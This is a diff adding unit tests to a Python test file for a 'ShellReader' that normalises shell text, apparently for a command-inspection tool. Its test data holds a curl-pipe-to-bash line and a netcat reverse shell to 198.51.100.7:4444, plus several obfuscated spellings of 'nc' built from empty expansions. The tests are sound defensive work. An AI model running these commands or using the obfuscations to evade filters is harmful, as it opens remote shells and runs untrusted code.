@@ -181,3 +181,13 @@ def test_a_backslash_newline_joins_words_as_bash_does():
     reader = ShellReader()
     assert [c.line for c in reader.read("cu\\\nrl -s http://x | ba\\\nsh")] == ["curl -s http://x", "bash"]
     assert [c.line for c in reader.read("tar -czf out.tgz \\\n  src/")] == ["tar -czf out.tgz src/"]
+
+
+def test_expansions_empty_in_a_fresh_shell_vanish_from_words():
+    reader = ShellReader()
+    for text in ("n$@c -e /bin/sh 198.51.100.7 4444", 'n"$@"c -e /bin/sh 198.51.100.7 4444',
+                 "n$()c -e /bin/sh 198.51.100.7 4444", "n``c -e /bin/sh 198.51.100.7 4444",
+                 "n$*c -e /bin/sh 198.51.100.7 4444"):
+        assert [c.line for c in reader.read(text)] == ["nc -e /bin/sh 198.51.100.7 4444"], text
+    assert [c.line for c in reader.read("set -- a b; echo $1b")][-1] == "echo b"  # $1, then b
+    assert [c.line for c in reader.read("x=$(date)")] == ["date", "assign x=$(date)"]
